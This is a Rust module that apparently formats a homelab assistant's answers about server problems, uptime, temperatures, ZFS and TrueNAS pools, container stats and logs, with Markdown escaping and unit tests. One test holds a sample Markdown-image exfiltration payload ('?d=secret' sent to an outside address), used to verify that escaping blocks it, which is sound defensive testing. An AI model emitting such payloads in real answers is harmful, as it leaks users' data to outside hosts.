//! The builtin provider's answers from the newer tools: problems, host facts, ZFS pools, one
//! container's details and logs.

use serde_json::Value;

use super::topics::{Topic, Topics};

/// A value from a tool's result, escaped for the Markdown answer (it may hold anything a
/// container, a log or an alert put there).
fn text(v: &Value) -> std::borrow::Cow<'_, str> {
    homelab_common::markdown::escape(v.as_str().unwrap_or("?"))
}

pub fn problems(v: &Value) -> String {
    let list = v["problems"].as_array().cloned().unwrap_or_default();
    let checked =
        v["checked"].as_array().map(|c| c.iter().map(text).collect::<Vec<_>>().join(", ")).unwrap_or_default();
    if list.is_empty() {
        return format!("No problems found. I checked: {checked}.");
    }
    let lines: Vec<String> = list
        .iter()
        .map(|p| {
            format!(
                "- **{}** {} ({}): {}",
                text(&p["severity"]),
                text(&p["subject"]),
                text(&p["kind"]),
                text(&p["reason"])
            )
        })
        .collect();
    format!("{} problem{} found:\n{}", list.len(), if list.len() == 1 { "" } else { "s" }, lines.join("\n"))
}

pub fn host(v: &Value, topics: &Topics) -> String {
    let mut lines = Vec::new();
    let specific = topics.has(Topic::Uptime)
        || [
            "temperature",
            "temperatures",
            "temp",
            "temps",
            "hot",
            "heat",
            "network",
            "interfaces",
            "interface",
            "bandwidth",
            "traffic",
        ]
        .iter()
        .any(|w| topics.words.iter().any(|x| x == w));
    if !specific || topics.has(Topic::Uptime) {
        lines.push(format!("The server ({}) has been up for {}.", text(&v["hostname"]), text(&v["uptime"])));
    }
    if !specific {
        lines.push(format!(
            "It runs {} (kernel {}) on {} CPU cores.",
            text(&v["os"]),
            text(&v["kernel"]),
            v["cpu_cores"]
        ));
    }
    let wants_temps = !specific
        || ["temperature", "temperatures", "temp", "temps", "hot", "heat"]
            .iter()
            .any(|w| topics.words.iter().any(|x| x == w));
    if wants_temps {
        let temps = v["temperatures"].as_array().cloned().unwrap_or_default();
        if temps.is_empty() {
            lines.push("No temperature sensors are visible on this host.".into());
        } else {
            let t: Vec<String> =
                temps.iter().map(|t| format!("- {}: {} °C", text(&t["label"]), t["celsius"])).collect();
            lines.push(format!("Temperatures:\n{}", t.join("\n")));
        }
    }
    let wants_net = !specific
        || ["network", "interfaces", "interface", "bandwidth", "traffic"]
            .iter()
            .any(|w| topics.words.iter().any(|x| x == w));
    if wants_net {
        let nics: Vec<String> = v["network_interfaces"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|n| {
                let gb = |k: &str| n[k].as_f64().unwrap_or(0.0) / 1024.0 / 1024.0 / 1024.0;
                format!(
                    "- {}: {:.2} GB received, {:.2} GB sent",
                    text(&n["name"]),
                    gb("received_bytes"),
                    gb("transmitted_bytes")
                )
            })
            .collect();
        if !nics.is_empty() {
            lines.push(format!("Network interfaces:\n{}", nics.join("\n")));
        }
    }
    lines.join("\n")
}

pub fn zfs(v: &Value) -> String {
    let pools = v["pools"].as_array().cloned().unwrap_or_default();
    if pools.is_empty() {
        return v["note"].as_str().unwrap_or("No ZFS pools found.").to_string();
    }
    let lines: Vec<String> = pools
        .iter()
        .map(|p| {
            let space = match (p["free_gb"].as_f64(), p["size_gb"].as_f64()) {
                (Some(free), Some(size)) => format!(", {free:.2} GB free of {size:.2} GB"),
                _ => String::new(),
            };
            format!("- **{}**: {}{space}", text(&p["name"]), text(&p["state"]))
        })
        .collect();
    let bad = pools.iter().filter(|p| p["healthy"] == false).count();
    let head =
        if bad == 0 { "All ZFS pools are ONLINE.".to_string() } else { format!("{bad} ZFS pool(s) need attention.") };
    format!("{head}\n{}", lines.join("\n"))
}

pub fn truenas(v: &Value) -> String {
    if v["configured"] == false {
        return v["note"].as_str().unwrap_or("TrueNAS extras are not configured.").to_string();
    }
    let mut lines = Vec::new();
    let alerts = v["alerts"].as_array().cloned().unwrap_or_default();
    if alerts.is_empty() {
        lines.push("TrueNAS has no active alerts.".to_string());
    } else {
        lines.push(format!("TrueNAS has {} active alert(s):", alerts.len()));
        lines.extend(alerts.iter().map(|a| format!("- **{}**: {}", text(&a["level"]), text(&a["text"]))));
    }
    for p in v["pools"].as_array().into_iter().flatten() {
        let scan = &p["scan"];
        let scan_text = match (scan["function"].as_str(), scan["state"].as_str()) {
            (Some(f), Some("SCANNING")) => format!("{} in progress ({}% done)", f.to_lowercase(), scan["percentage"]),
            (Some(f), Some(state)) => format!("last {} {}", f.to_lowercase(), state.to_lowercase()),
            _ => "no scrub recorded".to_string(),
        };
        lines.push(format!("Pool **{}** is {}; {scan_text}.", text(&p["name"]), text(&p["status"])));
    }
    lines.join("\n")
}

pub fn logs(v: &Value) -> String {
    let name = text(&v["name"]);
    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
    let lines: Vec<&str> = v["lines"].as_array().into_iter().flatten().map(|l| l.as_str().unwrap_or("?")).collect();
    if lines.is_empty() {
        return format!("{name} has no log output in that window.");
    }
    let mut out =
        format!("Last {} log lines of {name}:\n```\n{}\n```", lines.len(), lines.join("\n").replace("```", "ʼʼʼ"));
    if let Some(note) = v["note"].as_str() {
        out.push_str(&format!("\n(Note: {}.)", homelab_common::markdown::escape(note)));
    }
    out
}

pub fn stats(v: &Value, topics: &Topics) -> String {
    let mut list = v["containers"].as_array().cloned().unwrap_or_default();
    if list.is_empty() {
        return v["note"].as_str().unwrap_or("No running containers to sample.").to_string();
    }
    let by_cpu = topics.has(Topic::Cpu) && !topics.has(Topic::Memory);
    let key = if by_cpu { "cpu_percent" } else { "memory_used_mb" };
    list.sort_by(|a, b| b[key].as_f64().unwrap_or(0.0).total_cmp(&a[key].as_f64().unwrap_or(0.0)));
    let lines: Vec<String> = list
        .iter()
        .map(|c| {
            format!(
                "- **{}**: CPU {}%, memory {} MB of {} MB ({}%), network {} MB in / {} MB out, disk {} MB read / {} MB written",
                text(&c["name"]), c["cpu_percent"], c["memory_used_mb"], c["memory_limit_mb"], c["memory_percent"],
                c["net_rx_mb"], c["net_tx_mb"], c["block_read_mb"], c["block_write_mb"]
            )
        })
        .collect();
    let head = if list.len() == 1 {
        String::new()
    } else {
        format!("Running containers by {}:\n", if by_cpu { "CPU use" } else { "memory use" })
    };
    format!("{head}{}", lines.join("\n"))
}

pub fn details(v: &Value) -> String {
    let mut facts = vec![format!("**{}** is {}", text(&v["name"]), text(&v["state"]))];
    if let Some(status) = v["health"]["status"].as_str() {
        let probe = v["health"]["last_output"]
            .as_str()
            .map(|o| format!(" (last check: {})", homelab_common::markdown::escape(o)))
            .unwrap_or_default();
        facts.push(format!("health {status}{probe}"));
    }
    facts.push(format!("restarted {} times", v["restart_count"]));
    if let Some(code) = v["exit_code"].as_i64() {
        facts.push(format!("last exit code {code}"));
    }
    if v["oom_killed"] == true {
        facts.push("it was killed for running out of memory".into());
    }
    if let Some(t) = v["started_at"].as_str() {
        facts.push(format!("started {t}"));
    }
    if let Some(t) = v["finished_at"].as_str() {
        facts.push(format!("finished {t}"));
    }
    facts.push(format!("image `{}`", text(&v["image"])));
    let mounts: Vec<String> = v["mounts"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|m| format!("{} → {}", text(&m["source"]), text(&m["destination"])))
        .collect();
    if !mounts.is_empty() {
        facts.push(format!("mounts {}", mounts.join(", ")));
    }
    format!("{}.", facts.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn problems_are_listed_with_severity() {
        let v = json!({"problems": [{"severity": "critical", "kind": "container", "subject": "plex", "reason": "unhealthy (Up 2 hours (unhealthy))"}],
            "checked": ["containers", "filesystems"], "summary": "1 problem found."});
        assert_eq!(
            problems(&v),
            "1 problem found:\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
        );
        assert_eq!(
            problems(&json!({"problems": [], "checked": ["containers"]})),
            "No problems found. I checked: containers."
        );
    }

    #[test]
    fn text_from_the_system_cannot_become_an_image_or_a_link() {
        let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
        let details_answer = details(&json!({"name": "web", "state": "running", "image": "nginx", "restart_count": 0,
            "health": {"status": "unhealthy", "last_output": leak}}));
        let alert_answer = truenas(&json!({"alerts": [{"level": "WARNING", "text": leak}], "pools": []}));
        let problems_answer = problems(
            &json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}], "checked": []}),
        );
        for answer in [details_answer, alert_answer, problems_answer] {
            assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
            assert!(answer.contains("\\!\\[x\\](http://192.0.2.1/?d=secret)"), "{answer}");
        }
    }

    #[test]
    fn uptime_question_gets_the_uptime() {
        let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "os": "Debian", "kernel": "6.1", "cpu_cores": 4, "temperatures": [], "network_interfaces": []});
        assert_eq!(
            host(&v, &Topics::of("How long has the server been up?")),
            "The server (nas) has been up for 3 days, 2 hours."
        );
    }

    #[test]
    fn degraded_pools_are_called_out() {
        let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0}]});
        assert_eq!(zfs(&v), "1 ZFS pool(s) need attention.\n- **tank**: DEGRADED, 100.00 GB free of 1000.00 GB");
        assert_eq!(
            zfs(&json!({"pools": [], "note": "ZFS is not present on this host."})),
            "ZFS is not present on this host."
        );
    }

    #[test]
    fn logs_are_quoted_and_cut_notes_kept() {
        let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "note": "only the last 2 lines are shown"});
        assert_eq!(logs(&v), "Last 2 log lines of plex:\n```\nstarted\nlistening on 32400\n```\n(Note: only the last 2 lines are shown.)");
    }
}
